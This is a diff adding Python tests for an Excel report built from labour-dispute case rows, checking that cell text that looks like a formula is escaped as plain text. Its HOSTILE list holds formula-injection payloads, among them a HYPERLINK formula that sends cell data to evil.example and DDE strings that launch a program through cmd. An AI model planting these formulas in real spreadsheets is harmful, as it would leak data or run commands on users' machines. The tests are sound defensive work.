@@ -1,0 +1,115 @@
+"""The Excel report built from hand-made read-model rows (no broker, no database)."""
+
+from __future__ import annotations
+
+import io
+import uuid
+from datetime import UTC, date, datetime
+from typing import Any
+
+from openpyxl import load_workbook
+
+from projection import report
+from projection.periods import Period
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看详情")',
+    "+86-139-0000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def as_read_back(text: str) -> str:
+    """XML turns a carriage return into a line feed when the workbook is read back."""
+    return text.replace("\r", "\n")
+
+
+def figures(employers: int = 0) -> dict[str, Any]:
+    breakdown: list[dict[str, Any]] = []
+    return {
+        "totals": {"cases": len(HOSTILE), "workers": len(HOSTILE), "group_disputes": 0},
+        "figures": {
+            "consultations": 0,
+            "group_dispute_cases": 0,
+            "group_dispute_workers": 0,
+            "platform_cases": 0,
+            "platform_workers": 0,
+            "deadlines_at_risk": 0,
+            "repeat_employers": employers,
+            "repeat_employer_cases": 0,
+        },
+        "consultations_by_channel": breakdown,
+        "by_channel": breakdown,
+        "by_category": breakdown,
+        "by_district": breakdown,
+        "by_industry": [{"code": HOSTILE[1], "name": HOSTILE[1], "cases": 1, "workers": 1}],
+        "by_status": breakdown,
+        "by_urgency": breakdown,
+    }
+
+
+def case(i: int, employer: str) -> dict[str, Any]:
+    return {
+        "case_number": f"440305-2026-{i:06d}",
+        "report_day": date(2026, 3, 1),
+        "district_name": "南山区",
+        "channel_name": "微信公众号",
+        "employer_name": employer,
+        "industry_name": employer,
+        "worker_count": 1,
+        "category_name": "拖欠工资",
+        "urgency_name": "一般",
+        "status_name": "已转调解",
+        "group_id": uuid.uuid4(),
+        "group_number": f"QT-440305-2026-{i:06d}",
+        "is_platform": True,
+        "repeat_employer": True,
+    }
+
+
+def data(cases: list[dict[str, Any]], employers: list[dict[str, Any]]) -> report.ReportData:
+    return report.ReportData(
+        period=Period.parse("2026"),
+        district_code=None,
+        today=date(2026, 12, 2),
+        figures=figures(len(employers)),
+        cases=cases,
+        consultations=[],
+        deadlines=[],
+        employers=employers,
+    )
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
+    cases = [case(i, text) for i, text in enumerate(HOSTILE)]
+    employers = [
+        {
+            "employer_name": text,
+            "district_name": "南山区",
+            "window_days": 90,
+            "case_count": 3,
+            "flagged_at": datetime(2026, 3, 1, tzinfo=UTC),
+            "case_numbers": ["440305-2026-000001"],
+            "reason": text,
+        }
+        for text in HOSTILE
+    ]
+    book = load_workbook(io.BytesIO(report.workbook(data(cases, employers))))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    for hostile in map(as_read_back, HOSTILE):
+        assert "'" + hostile in texts, hostile  # the text survives, behind a quote
+        assert hostile not in texts
+    listed = [row[4] for row in book["受理案件"].iter_rows(min_row=2, values_only=True)]
+    assert listed == ["'" + as_read_back(text) for text in HOSTILE]
+
+
+def test_ordinary_text_and_numbers_are_written_unchanged() -> None:
+    assert report.cell_value("深圳市鹏程建筑劳务有限公司") == "深圳市鹏程建筑劳务有限公司"
+    assert report.cell_value("  其中：12351热线") == "  其中：12351热线"
+    assert report.cell_value(-3) == -3
+    assert report.cell_value(date(2026, 1, 1)) == date(2026, 1, 1)
